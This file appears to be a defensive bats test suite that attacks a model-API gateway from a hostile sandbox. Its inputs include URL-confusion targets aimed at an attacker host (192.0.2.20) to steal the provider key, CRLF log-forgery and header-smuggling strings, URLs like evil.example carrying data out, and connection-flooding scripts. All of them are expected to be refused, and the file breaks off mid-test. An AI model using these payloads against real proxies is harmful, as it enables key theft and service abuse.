#!/usr/bin/env bats
# Attacks on lcd's model gateway from a hostile sandbox (lcrun-security(7),
# "The model gateway").  The sandbox holds its own gateway token and
# speaks raw HTTP to the gateway (raw-http.py, run inside it); it wants the
# provider's key, or model answers its budget does not pay for.  A private
# lcd per test, its gateway verified against a test CA; the provider is a
# model double in a network namespace of the test's own, and a second host
# there (192.0.2.20, a certificate from the same CA) plays the attacker's
# server: every request it gets is logged, and it must never get one.

load ../integration/helpers
load ../integration/lcd-lib
load ../integration/doubles-lib
load ../integration/gateway-lib

EVIL4=192.0.2.20
RAW="$BATS_TEST_DIRNAME/raw-http.py"

setup_file() {
	[ "$(id -u)" = 0 ] || skip "needs root"
	export DBL_NS=lcsg-$$
	export GW_CA="$BATS_FILE_TMPDIR/ca"
	gw_ca "$GW_CA"
	# the attacker's certificate: the same CA, its own address
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$GW_CA/evil.key" \
		-out "$GW_CA/evil.csr" -subj /CN=evil 2>/dev/null
	printf 'subjectAltName=IP:%s\n' "$EVIL4" >"$GW_CA/evil.ext"
	openssl x509 -req -in "$GW_CA/evil.csr" -CA "$GW_CA/ca.pem" -CAkey "$GW_CA/ca.key" -CAcreateserial \
		-out "$GW_CA/evil.pem" -days 2 -extfile "$GW_CA/evil.ext" 2>/dev/null
}

setup() {
	[ "$(id -u)" = 0 ] || skip "needs root"
	[ -z "${LCRUN_IN_VM:-}" ] || skip "the gateway needs no cgroup v2 controller; the host suite runs it"
	nft list tables >/dev/null 2>&1 || skip "this kernel has no nftables (--net allow)"
	W=$BATS_TEST_TMPDIR
	host_snapshot
	lcd_setup
	LCRUN="${LCRUN:-$BIN/lcrun}"
	REAL_KEY="sk-ant-api03-REAL-$RANDOM$RANDOM-never-in-a-sandbox"
	S4=claude-sonnet-4-5
}

teardown() {
	local rc=0 f
	stop_lcd
	for f in "$BATS_TEST_TMPDIR"/*.pid; do
		[ -e "$f" ] && dbl_stop "$(basename "$f" .pid)"
	done
	if [ -n "${T:-}" ] && [ -d "$T/state" ]; then
		lcd_leftovers_remove || rc=1
		"$LCRUN" gc >/dev/null 2>&1 || true
	fi
	dbl_netns_down
	lcd_teardown
	[ ! -f "$BATS_TEST_TMPDIR/host.before" ] || assert_host_clean || rc=1
	return $rc
}

turns() {
	cat >"$W/turns.json"
}

# The attacker's HTTPS server at $EVIL4 (in the doubles' namespace, routed
# like them), logging every request it gets to $W/evil.jsonl.
evil_up() {
	local port=$DBL_PORT
	in_ns ip addr add "$EVIL4/32" dev eth0
	ip route add "$EVIL4/32" dev "$DBL_HV"
	echo '{"turns": [], "loop": true}' >"$W/evil-turns.json"
	dbl_start anthropic-double.py evil --listen "$EVIL4" --script "$W/evil-turns.json" --log "$W/evil.jsonl" \
		--tls-cert "$GW_CA/evil.pem" --tls-key "$GW_CA/evil.key" || return 1
	EVIL_PORT=$DBL_PORT
	DBL_PORT=$port
	# the server is there, and the host trusts its certificate
	curl -sS --cacert "$GW_CA/ca.pem" "https://$EVIL4:$EVIL_PORT/v1/models" -o /dev/null
	: >"$W/evil.jsonl"
}

raw() { # SB ARGS…: raw-http.py inside SB
	local sb=$1
	shift
	"$LCCTL" sandbox exec "$sb" -- python3 -c "$(cat "$RAW")" "$@"
}

provider_requests() {
	[ -f "$W/req.jsonl" ] || { echo 0; return; }
	jq -s length "$W/req.jsonl"
}

cost_of() { # SQL WHERE: the ledger's cost_pusd, one a line
	sqlite3 "$LCRUN_ROOT/lcd.db" "SELECT cost_pusd FROM gateway_ledger WHERE $1 ORDER BY seq"
}

@test "security/gateway: no request-target sends the key anywhere but the upstream host" {
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	evil_up
	gw_sandbox
	# the attack that reached a second host: no leading "/", so the upstream
	# URL read "https://UPSTREAM%2Fv1%2Fmodels%2F@EVIL" (userinfo + host)
	for target in "%2Fv1%2Fmodels%2F@$EVIL4:$EVIL_PORT" "%2fv1%2fmodels%2f@$EVIL4:$EVIL_PORT" \
		"%2Fv1%2Fmodels%2Fx@$EVIL4:$EVIL_PORT%2F" "https://$EVIL4:$EVIL_PORT/v1/models" \
		"$EVIL4:$EVIL_PORT" "//$EVIL4:$EVIL_PORT/v1/models" "/v1/models/x@$EVIL4:$EVIL_PORT" \
		"/v1/models/%2F@$EVIL4" "/v1/models/x%5C@$EVIL4" '/v1/models/..' '/v1/models/%2e%2e' \
		'/v1/models/./x' '/v1/models/a%00b' '/v1/models/a%0Db' '/v1/models/a#b' '/v1/models/a\b' \
		'/v1/models?x=1#@evil' '/v1/messages/..%2F..%2Fmodels'; do
		run raw "$SB" GET "$target"
		echo "$target -> $output"
		if [ -s "$W/evil.jsonl" ]; then
			echo "the attacker's server got: $(jq -c '{path, key: .headers["x-api-key"]}' "$W/evil.jsonl")"
			false
		fi
		[ "${output%% *}" = 400 ]
		echo "${output#* }" | jq -e '.type == "error" and .error.type == "invalid_request_error"'
	done
	# the attacker's server never got a request, and the provider none of these
	[ ! -s "$W/evil.jsonl" ]
	[ "$(provider_requests)" -eq 0 ]
	# what the provider serves still passes
	run raw "$SB" GET /v1/models
	[ "${output%% *}" = 200 ]
	run raw "$SB" GET /v1/models/claude-sonnet-4-5
	[ "${output%% *}" = 200 ]
	run raw "$SB" POST '/v1/messages?beta=true' "{\"model\": \"$S4\", \"max_tokens\": 10, \"messages\": []}"
	[ "${output%% *}" = 200 ]
	[ "$(jq -r '"\(.path) \(.query)"' "$W/req.jsonl" | tr '\n' ,)" = "/v1/models ,/v1/models/claude-sonnet-4-5 ,/v1/messages beta=true," ]
	[ ! -s "$W/evil.jsonl" ]
}

@test "security/gateway: a request's path cannot forge or garble lcd's log" {
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	# a target is refused (and logged) before its token is looked at
	run raw "$SB" GET '/v1/x%0D%0Alcd:%20FORGED%1B[2K' --no-token
	[ "${output%% *}" = 400 ]
	run raw "$SB" GET '/v1/y?q=%0D%0Alcd:%20FORGED%1B[2K'
	[ "${output%% *}" = 400 ]
	run raw "$SB" POST "/v1/messages" '{"model": "a\rlcd: FORGED", "max_tokens": 1, "messages": []}'
	[ "${output%% *}" = 400 ]
	cat "$T/lcd.log"
	# no control byte reaches the log but its line ends; what was sent is named escaped
	if LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]' "$T/lcd.log"; then false; fi
	if grep -q '^lcd: FORGED' "$T/lcd.log"; then false; fi
	grep -qF '/v1/x%0D%0Alcd:%20FORGED%1B[2K' "$T/lcd.log"
	grep -qF 'model a\x0dlcd: FORGED' "$T/lcd.log"
}

@test "security/gateway: headers that bill another project, or turn on betas, are not forwarded" {
	REAL_KEY="sk-proj-REAL-$RANDOM$RANDOM"
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	gw_up openai-double.py "$W/turns.json"
	# the site's organisation and project, pinned per upstream
	stop_lcd
	jq '.gateway.upstreams.openai = {url: .gateway.upstreams.openai, organization: "org-site", project: "proj_site"}' \
		"$T/lcd.json" >"$T/lcd.json.new" && mv "$T/lcd.json.new" "$T/lcd.json"
	start_lcd
	gw_sandbox
	run raw "$SB" POST /v1/chat/completions '{"model": "gpt-4o-mini", "max_tokens": 5, "messages": []}' \
		-H 'OpenAI-Organization: org-attacker' -H 'OpenAI-Project: proj_attacker' -H 'X-Smuggled: 1' \
		-H 'Cookie: a=b' -H 'X-Forwarded-Host: evil' -H 'OpenAI-Beta: assistants=v2'
	[ "${output%% *}" = 200 ]
	jq -c .headers "$W/req.jsonl"
	[ "$(jq -r '"\(.headers["openai-organization"]) \(.headers["openai-project"])"' "$W/req.jsonl")" = "org-site proj_site" ]
	[ "$(jq -r '.headers | keys | map(select(test("^x-|cookie|beta"; "i"))) | length' "$W/req.jsonl")" -eq 0 ]
	# Anthropic: betas are an allow list (a long-context beta changes the price)
	stop_lcd
	dbl_stop model
	rm -f "$W/req.jsonl"
	REAL_KEY="sk-ant-REAL-$RANDOM"
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}" \
		-H 'anthropic-version: 2023-06-01' -H 'anthropic-beta: context-1m-2025-08-07, interleaved-thinking-2025-05-14,mcp-client-2025-04-04'
	[ "${output%% *}" = 200 ]
	[ "$(jq -r '"\(.headers["anthropic-version"])|\(.headers["anthropic-beta"])"' "$W/req.jsonl")" = "2023-06-01|interleaved-thinking-2025-05-14" ]
}

@test "security/gateway: a stream its client cuts costs the request's reservation, not what was reported" {
	# OpenAI reports usage only at a stream's end: a client that hangs up
	# after some deltas used to pay nothing
	REAL_KEY="sk-proj-REAL-$RANDOM$RANDOM"
	turns <<'EOF'
{"turns": [{"text": "one two three four five six", "stall_at_event": 4, "stall": 20,
            "usage": {"input_tokens": 50, "output_tokens": 64000}}]}
EOF
	gw_up openai-double.py "$W/turns.json" '{"idle_timeout": 60}'
	gw_sandbox --budget-usd 5
	body='{"model": "gpt-4o-mini", "stream": true, "max_tokens": 64000, "messages": [{"role": "user", "content": "hi"}]}'
	run "$LCCTL" sandbox exec -e "BODY=$body" "$SB" -- sh -c 'curl -sS -N -H "Authorization: Bearer $OPENAI_API_KEY" -H "content-type: application/json" -d "$BODY" "$OPENAI_BASE_URL/chat/completions" >/tmp/o & for i in $(seq 200); do [ "$(grep -c "^data: " /tmp/o)" -ge 4 ] && break; sleep 0.05; done; kill $!; grep -c "^data: " /tmp/o'
	echo "$output"
	[ "$output" -eq 4 ]
	for _ in $(seq 100); do [ -n "$(cost_of "sandbox_id = '$SB'")" ] && break; sleep 0.1; done
	ledger "sandbox_id = '$SB'"
	[ "$(ledger "sandbox_id = '$SB'" | jq -r .outcome)" = client_gone ]
	# gpt-4o-mini answers 16384 tokens at most (max_tokens 64000 is more
	# than it gives): at $0.60 per M, 9,830,400,000 pico-dollars, plus
	# the input's bound (each body byte at $0.15 per M)
	[ "$(cost_of "sandbox_id = '$SB'")" -eq $((16384 * 600000 + ${#body} * 150000)) ]
	# Anthropic reports the input at the start: that is billed as it is, the output at its reservation
	stop_lcd
	dbl_stop model
	rm -f "$W/req.jsonl"
	REAL_KEY="sk-ant-REAL-$RANDOM"
	turns <<'EOF'
{"turns": [{"text": "long", "usage": {"input_tokens": 1000, "output_tokens": 5}, "stall_at_event": 2, "stall": 20}]}
EOF
	gw_up anthropic-double.py "$W/turns.json" '{"idle_timeout": 60}'
	gw_sandbox --budget-usd 5
	run "$LCCTL" sandbox exec "$SB" -- sh -c 'curl -sS -N -H "x-api-key: $ANTHROPIC_API_KEY" -d "{\"model\": \"claude-sonnet-4-5\", \"stream\": true, \"max_tokens\": 2000, \"messages\": []}" "$ANTHROPIC_BASE_URL/v1/messages" >/tmp/o & for i in $(seq 200); do grep -q "^event: ping" /tmp/o && break; sleep 0.05; done; kill $!; cat /tmp/o'
	[[ "$output" == *"event: message_start"* ]]
	for _ in $(seq 100); do [ -n "$(cost_of "sandbox_id = '$SB'")" ] && break; sleep 0.1; done
	# 1000 in at $3 and 2000 out at $15 per M
	[ "$(ledger "sandbox_id = '$SB'" | jq -r '"\(.outcome) \(.input_tokens) \(.cost_pusd)"')" = "client_gone 1000 33000000000" ]
}

@test "security/gateway: an unmetered or an oversized answer costs the request's reservation" {
	turns <<'EOF'
{"turns": [{"text": "garbage", "malformed": true}, {"text": "big", "pad": 17000000, "usage": {"input_tokens": 1, "output_tokens": 1}}]}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox --budget-usd 5
	body="{\"model\": \"$S4\", \"max_tokens\": 100, \"messages\": []}"
	run raw "$SB" POST /v1/messages "$body"
	[ "${output%% *}" = 200 ]
	run raw "$SB" POST /v1/messages "$body" --size
	echo "$output"
	[ "${output%% *}" = 200 ]
	[ "${output#* }" -gt 17000000 ]
	# each: the body's bytes as input tokens at the dearest input price
	# ($3.75 per M, cache writes) and 100 out at $15 per M
	want=$(( ${#body} * 3750000 + 100 * 15000000 ))
	[ "$(ledger "sandbox_id = '$SB'" | jq -r '"\(.outcome) \(.cost_pusd)"' | tr '\n' ,)" = "unmetered $want,unmetered $want," ]
}

@test "security/gateway: a budget smaller than one answer refuses it before the provider sees it" {
	turns <<'EOF'
{"turns": [{"text": "dear", "usage": {"input_tokens": 10, "output_tokens": 1000}}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox --budget-usd 0.001
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 1000, \"messages\": []}"
	echo "$output"
	[ "${output%% *}" = 402 ]
	echo "${output#* }" | jq -e '.error.type == "billing_error" and (.error.message | test("budget"))'
	[ "$(provider_requests)" -eq 0 ]
	# a request whose reservation fits is served
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 10, \"messages\": []}"
	[ "${output%% *}" = 200 ]
	# without max_tokens, the model's maximum output is reserved
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"messages\": []}"
	[ "${output%% *}" = 402 ]
	[ "$(provider_requests)" -eq 1 ]
}

@test "security/gateway: concurrent requests cannot spend past the budget" {
	# each answer costs 10 in and 1000 out: $0.01503; four at once against $0.04
	turns <<'EOF'
{"turns": [{"text": "slow", "stall": 3, "usage": {"input_tokens": 10, "output_tokens": 1000}}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox --budget-usd 0.04
	run "$LCCTL" sandbox exec "$SB" -- sh -c 'for i in 1 2 3 4; do curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $ANTHROPIC_API_KEY" -d "{\"model\": \"claude-sonnet-4-5\", \"max_tokens\": 1000, \"messages\": []}" "$ANTHROPIC_BASE_URL/v1/messages" & done; wait'
	echo "$output"
	[ "$(echo "$output" | sort | tr '\n' ,)" = "200,200,402,402," ]
	[ "$(provider_requests)" -eq 2 ]
	spend=$("$LCCTL" sandbox show "$SB" | jq -r .spend_usd)
	echo "spent $spend"
	awk -v s="$spend" 'BEGIN { exit !(s <= 0.04) }'
}

@test "security/gateway: one sandbox has at most max_inflight requests under way" {
	turns <<'EOF'
{"turns": [{"text": "slow", "stall": 3}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	run "$LCCTL" sandbox exec "$SB" -- sh -c 'for i in 1 2 3 4 5 6; do curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $ANTHROPIC_API_KEY" -d "{\"model\": \"claude-sonnet-4-5\", \"max_tokens\": 10, \"messages\": []}" "$ANTHROPIC_BASE_URL/v1/messages" & sleep 0.2; done; wait'
	echo "$output"
	[ "$(echo "$output" | sort | tr '\n' ,)" = "200,200,200,200,429,429," ]
	[ "$(provider_requests)" -eq 4 ]
}

@test "security/gateway: thousands of refusals are counted, not written as ledger rows or log lines" {
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox --budget-usd 0.0001
	lines_before=$(wc -l <"$T/lcd.log")
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 1000, \"messages\": []}" --repeat 3000
	echo "$output"
	[ "${output%% *}" = 402 ]
	[ "$(sqlite3 "$LCRUN_ROOT/lcd.db" "SELECT count(*) FROM gateway_ledger WHERE sandbox_id = '$SB'")" -eq 0 ]
	"$LCCTL" sandbox show "$SB" | jq -e '.model_gateway.refused == 3000 and .model_gateway.budget_exceeded == true and .model_gateway.requests == 0'
	[ "$(($(wc -l <"$T/lcd.log") - lines_before))" -lt 60 ]
	[ "$(provider_requests)" -eq 0 ]
}

@test "security/gateway: what the gateway cannot price is refused: background, unpriced server tools, MCP" {
	REAL_KEY="sk-proj-REAL-$RANDOM$RANDOM"
	turns <<'EOF'
{"turns": [{"text": "a", "usage": {"input_tokens": 1, "output_tokens": 1}}], "loop": true}
EOF
	gw_up openai-double.py "$W/turns.json"
	gw_sandbox --budget-usd 0.01
	for b in '{"model": "gpt-4o-mini", "background": true, "input": "x"}' \
		'{"model": "gpt-4o-mini", "input": "x", "tools": [{"type": "web_search"}]}' \
		'{"model": "gpt-4o-mini", "input": "x", "tools": [{"type": "mcp", "server_url": "https://evil.example"}]}' \
		'{"model": "gpt-4o-mini", "input": "x", "previous_response_id": "resp_1"}'; do
		run raw "$SB" POST /v1/responses "$b"
		echo "$b -> $output"
		[ "${output%% *}" = 400 ]
		echo "${output#* }" | jq -e '.error.type == "invalid_request_error"'
	done
	# n answers are n answers: n = 3 of 10000 out at $0.60 per M does not fit $0.01, n = 1 does
	run raw "$SB" POST /v1/chat/completions '{"model": "gpt-4o-mini", "n": 3, "max_tokens": 10000, "messages": []}'
	[ "${output%% *}" = 402 ]
	run raw "$SB" POST /v1/chat/completions '{"model": "gpt-4o-mini", "n": 1, "max_tokens": 10000, "messages": []}'
	[ "${output%% *}" = 200 ]
	[ "$(provider_requests)" -eq 1 ]
	# Anthropic: a server tool (web search, billed per call) and MCP servers
	stop_lcd
	dbl_stop model
	rm -f "$W/req.jsonl"
	REAL_KEY="sk-ant-REAL-$RANDOM"
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	for b in "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": [], \"tools\": [{\"type\": \"web_search_20250305\", \"name\": \"web_search\"}]}" \
		"{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": [], \"mcp_servers\": [{\"type\": \"url\", \"url\": \"https://evil.example/sse\", \"name\": \"x\"}]}" \
		"{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": [], \"model\": \"claude-3-haiku\"}"; do
		run raw "$SB" POST /v1/messages "$b"
		echo "$b -> $output"
		[ "${output%% *}" = 400 ]
	done
	# tools the client runs itself are fine
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": [], \"tools\": [{\"name\": \"Bash\", \"input_schema\": {\"type\": \"object\"}}, {\"type\": \"bash_20250124\", \"name\": \"bash\"}]}"
	[ "${output%% *}" = 200 ]
	[ "$(provider_requests)" -eq 1 ]
}

@test "security/gateway: past memory_max new requests get 503, and the requests in flight finish" {
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json" '{"max_body": 3145728, "memory_max": 8388608}'
	gw_sandbox
	# two uploads of 3 MiB each hold 6 MiB while their bodies come slowly
	cat >"$W/slow.py" <<'EOF'
import os, socket, sys, time
base = os.environ["ANTHROPIC_BASE_URL"].split("//")[1]
host, port = base.rsplit(":", 1)
size = int(sys.argv[1])
body = b'{"model": "claude-sonnet-4-5", "max_tokens": 5, "messages": [], "pad": "' + b"x" * (size - 78) + b'"}'
s = socket.create_connection((host, int(port)))
s.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
          % (os.environ["ANTHROPIC_API_KEY"].encode(), len(body)))
s.sendall(body[:1024])
time.sleep(float(sys.argv[2]))
s.sendall(body[1024:])
print(s.recv(100).split(b" ")[1].decode())
EOF
	"$LCCTL" sandbox exec "$SB" -- python3 -c "$(cat "$W/slow.py")" 3145000 4 >"$W/a.out" &
	pa=$!
	"$LCCTL" sandbox exec "$SB" -- python3 -c "$(cat "$W/slow.py")" 3145000 4 >"$W/b.out" &
	pb=$!
	sleep 1.5
	# a third does not fit: 503 in the provider's shape, at once
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}" --pad 3000000
	[ "${output%% *}" = 503 ]
	echo "${output#* }" | jq -e '.error.type == "api_error"'
	wait "$pa"
	wait "$pb"
	[ "$(cat "$W/a.out") $(cat "$W/b.out")" = "200 200" ]
	# and with the memory free again, it is served
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}" --pad 3000000
	[ "${output%% *}" = 200 ]
}

@test "security/gateway: idle connections hold one sandbox's share only, and close when no token comes" {
	turns <<'EOF2'
{"turns": [{"text": "a"}], "loop": true}
EOF2
	gw_up anthropic-double.py "$W/turns.json" '{"header_timeout": 2}'
	gw_sandbox
	A=$SB
	gw_sandbox
	B=$SB
	# A opens 20 connections and sends nothing on them
	cat >"$W/hold.py" <<'EOF2'
import os, socket, time
base = os.environ["ANTHROPIC_BASE_URL"].split("//")[1]
host, port = base.rsplit(":", 1)
socks = [socket.create_connection((host, int(port))) for _ in range(20)]
def closed(s):
    s.settimeout(0.01)
    try:
        return s.recv(1) == b""
    except socket.timeout:
        return False
    except OSError:
        return True
time.sleep(0.5)
print(sum(closed(s) for s in socks))
time.sleep(3)
print(sum(closed(s) for s in socks))
EOF2
	"$LCCTL" sandbox exec "$A" -- python3 -c "$(cat "$W/hold.py")" >"$W/hold.out" &
	hp=$!
	sleep 1
	# meanwhile B is served
	run raw "$B" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}"
	[ "${output%% *}" = 200 ]
	wait "$hp"
	cat "$W/hold.out"
	# past 16 closed at once; all of them once header_timeout passed
	[ "$(cat "$W/hold.out" | tr '\n' ,)" = "4,20," ]
	# and A is served again
	run raw "$A" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}"
	[ "${output%% *}" = 200 ]
}

@test "security/gateway: one sandbox's promised bodies cannot take the gateway's memory from the others" {
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	# lcd's defaults: max_body 32 MiB, memory_max 512 MiB, 16 connections a sandbox
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	A=$SB
	gw_sandbox
	B=$SB
	# A sends 16 requests' headers with its token, each promising the largest
	# body, and then not a byte of it; Expect: 100-continue makes the gateway
	# say, for each, whether it took it (100) or not (a final status)
	cat >"$W/hoard.py" <<'EOF'
import os, socket, sys, time
base = os.environ["ANTHROPIC_BASE_URL"].split("//")[1]
host, port = base.rsplit(":", 1)
head = (b"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: %s\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\nExpect: 100-continue\r\n\r\n" % (os.environ["ANTHROPIC_API_KEY"].encode(), 32 << 20))
socks = [socket.create_connection((host, int(port)), timeout=20) for _ in range(16)]
for s in socks:
    s.sendall(head)
print(" ".join(sorted(s.recv(4096).split(b" ")[1].decode() for s in socks)), flush=True)
time.sleep(float(sys.argv[1]))
EOF
	"$LCCTL" sandbox exec "$A" -- python3 -c "$(cat "$W/hoard.py")" 5 >"$W/hoard.out" &
	hp=$!
	for _ in $(seq 100); do [ -s "$W/hoard.out" ] && break; sleep 0.1; done
	cat "$W/hoard.out"
	# meanwhile B is served
	run raw "$B" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}"
	echo "$output"
	[ "${output%% *}" = 200 ]
	# A's share: max_inflight requests under way (their bodies too), the others refused at once
	[ "$(tr ' ' '\n' <"$W/hoard.out" | sort | uniq -c | awk '{printf "%s:%s,", $2, $1}')" = "100:4,429:12," ]
	wait "$hp"
}

@test "security/gateway: a header's value cannot carry another header past the allow list" {
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	# libmicrohttpd ends a header line at LF only: a bare CR stays in the
	# value, libcurl sends it on as it is, and a provider's parser may end
	# the line there (the doubles' does): a header the allow list dropped
	for h in $'User-Agent: x\ranthropic-beta: context-1m-2025-08-07' $'anthropic-version: 2023-06-01\rX-Smuggled: 1' \
		$'Accept: */*\x0bX-Smuggled: 2' $'User-Agent: x\x01'; do
		run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}" -H "$h"
		echo "$h -> $output"
		if [ -f "$W/req.jsonl" ]; then jq -c .headers "$W/req.jsonl"; fi
		[ "${output%% *}" = 400 ]
		echo "${output#* }" | jq -e '.type == "error" and .error.type == "invalid_request_error"'
	done
	[ "$(provider_requests)" -eq 0 ]
	# a tab is a value's own
	run raw "$SB" POST /v1/messages "{\"model\": \"$S4\", \"max_tokens\": 5, \"messages\": []}" -H $'User-Agent: a\tb'
	[ "${output%% *}" = 200 ]
	[ "$(jq -r '.headers["user-agent"]' "$W/req.jsonl")" = $'a\tb' ]
	[ "$(jq -r '.headers | keys | map(select(test("beta|smuggled"))) | length' "$W/req.jsonl")" -eq 0 ]
}

@test "security/gateway: a request the provider has, ended by the gateway before its answer, costs its reservation" {
	# a whole answer slower than idle_timeout (3 s): the provider has the
	# request and answers it (and bills it), the sandbox gets 504
	turns <<'EOF'
{"turns": [{"text": "slow", "stall": 6, "usage": {"input_tokens": 10, "output_tokens": 100}}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox --budget-usd 1
	body="{\"model\": \"$S4\", \"max_tokens\": 100, \"messages\": []}"
	run raw "$SB" POST /v1/messages "$body"
	echo "$output"
	[ "${output%% *}" = 504 ]
	[ "$(provider_requests)" -eq 1 ]
	ledger "sandbox_id = '$SB'"
	# the body's bytes at the dearest input price ($3.75 per M), 100 out at $15 per M
	[ "$(ledger "sandbox_id = '$SB'" | jq -r '"\(.outcome) \(.cost_pusd)"')" = "timeout $(( ${#body} * 3750000 + 100 * 15000000 ))" ]
}

@test "security/gateway: connections past a sandbox's share are refused without a log line each" {
	turns <<'EOF'
{"turns": [{"text": "a"}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	# 16 connections held (its share), then 1,000 more, each refused
	cat >"$W/flood.py" <<'EOF'
import os, socket
base = os.environ["ANTHROPIC_BASE_URL"].split("//")[1]
host, port = base.rsplit(":", 1)
held = [socket.create_connection((host, int(port))) for _ in range(16)]
refused = 0
for _ in range(1000):
    s = socket.create_connection((host, int(port)))
    s.settimeout(5)
    try:
        refused += s.recv(1) == b""
    except socket.timeout:
        pass
    except OSError:
        refused += 1
    s.close()
print(refused)
EOF
	lines_before=$(wc -l <"$T/lcd.log")
	run "$LCCTL" sandbox exec "$SB" -- python3 -c "$(cat "$W/flood.py")"
	echo "$output"
	[ "$output" -eq 1000 ]
	tail -n +"$((lines_before + 1))" "$T/lcd.log" | sort | uniq -c | sort -rn | head
	[ "$(($(wc -l <"$T/lcd.log") - lines_before))" -lt 60 ]
}

@test "security/gateway: a model the price table does not list costs at least its provider's dearest rate" {
	REAL_KEY="sk-proj-REAL-$RANDOM$RANDOM"
	turns <<'EOF'
{"turns": [{"text": "a", "usage": {"input_tokens": 1000, "output_tokens": 1000}}], "loop": true}
EOF
	gw_up openai-double.py "$W/turns.json"
	gw_sandbox
	# OpenAI's dearest list price (dollars per million tokens, in and out):
	# o1-pro, 150 and 600; and a dated snapshot dearer than its model's
	# alias: gpt-4o-2024-05-13, 5 and 15 (gpt-4o: 2.5 and 10)
	run raw "$SB" POST /v1/responses '{"model": "o1-pro", "max_output_tokens": 1000, "input": "x"}'
	[ "${output%% *}" = 200 ]
	run raw "$SB" POST /v1/chat/completions '{"model": "gpt-4o-2024-05-13", "max_tokens": 1000, "messages": []}'
	[ "${output%% *}" = 200 ]
	ledger "sandbox_id = '$SB'"
	[ "$(cost_of "sandbox_id = '$SB' AND model = 'o1-pro'")" -ge $((1000 * 150000000 + 1000 * 600000000)) ]
	[ "$(cost_of "sandbox_id = '$SB' AND model = 'gpt-4o-2024-05-13'")" -ge $((1000 * 5000000 + 1000 * 15000000)) ]
}

@test "security/gateway: an OpenAI answer's server tool calls cost their reservation (it does not count them)" {
	REAL_KEY="sk-proj-REAL-$RANDOM$RANDOM"
	turns <<'EOF'
{"turns": [{"text": "a", "usage": {"input_tokens": 10, "output_tokens": 10}}], "loop": true}
EOF
	# a site's table that prices web search
	export LCRUN_ETC_DIR="$T/etc"
	mkdir -p "$LCRUN_ETC_DIR/policies"
	jq '.server_tools = {openai: {web_search: {per_call: 0.01, max_calls: 5}}}' \
		"$BATS_TEST_DIRNAME/../../policies/model-prices.json" >"$LCRUN_ETC_DIR/policies/model-prices.json"
	gw_up openai-double.py "$W/turns.json"
	gw_sandbox
	run raw "$SB" POST /v1/responses '{"model": "gpt-4o-mini", "max_output_tokens": 10, "max_tool_calls": 2, "input": "x", "tools": [{"type": "web_search"}]}'
	[ "${output%% *}" = 200 ]
	ledger "sandbox_id = '$SB'"
	# 10 in at $0.15 and 10 out at $0.60 per M, and the 2 searches it may make at $0.01
	[ "$(ledger "sandbox_id = '$SB'" | jq -r '"\(.outcome) \(.cost_pusd)"')" = "ok $((10 * 150000 + 10 * 600000 + 2 * 10000000000))" ]
}

@test "security/gateway: what the provider would fetch from a URL, or look up by id, is refused" {
	turns <<'EOF'
{"turns": [{"text": "a", "usage": {"input_tokens": 1, "output_tokens": 1}}], "loop": true}
EOF
	gw_up anthropic-double.py "$W/turns.json"
	gw_sandbox
	# the provider would GET a URL the sandbox names (anything it wants to
	# send out in its query), and price what it got far above the body's bytes
	url="https://$EVIL4/x.pdf?data=secret"
	for c in "{\"type\": \"image\", \"source\": {\"type\": \"url\", \"url\": \"$url\"}}" \
		"{\"type\": \"document\", \"source\": {\"type\": \"url\", \"url\": \"$url\"}}" \
		"{\"type\": \"tool_result\", \"tool_use_id\": \"t\", \"content\": [{\"type\": \"image\", \"source\": {\"type\": \"url\", \"url\": \"$url\"}}]}" \
		'{"type": "document", "source": {"type": "file", "file_id": "file_011"}}'; do
